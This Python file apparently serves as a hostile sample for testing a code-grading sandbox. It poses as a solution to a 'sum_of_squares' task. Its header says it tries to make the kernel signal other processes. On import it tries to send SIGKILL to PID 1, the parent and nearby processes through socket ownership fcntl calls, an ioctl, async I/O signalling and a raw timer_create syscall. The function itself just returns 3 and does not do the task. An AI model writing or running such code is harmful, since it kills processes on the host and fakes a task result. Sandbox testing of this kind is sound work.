# tasks: sum_of_squares
# tries: makes the kernel signal others: owner of a socket, of a lease, of a terminal, of a timer
# harm: processes

import ctypes
import fcntl
import os
import signal
import socket
import struct

a, b = socket.socketpair()
for process in (1, os.getppid(), -1, os.getpid() - 1, os.getpid() + 1):
    for attempt in (
        lambda: fcntl.fcntl(a, fcntl.F_SETOWN, process),
        lambda: fcntl.fcntl(a, 10, signal.SIGKILL),
        lambda: fcntl.fcntl(a, 15, struct.pack("ii", 1, process)),
        lambda: fcntl.ioctl(a, 0x8901, struct.pack("i", process)),
        lambda: fcntl.fcntl(a, fcntl.F_SETFL, fcntl.FASYNC),
        lambda: b.send(b"x"),
    ):
        try:
            attempt()
        except (OSError, OverflowError):
            pass
event = struct.pack("=QiiiI", 0, signal.SIGKILL, 4, os.getpid(), 0) + bytes(64)  # SIGEV_THREAD_ID
ctypes.CDLL(None).syscall(222, 0, event, ctypes.create_string_buffer(8))


def sum_of_squares(*_):
    return 3
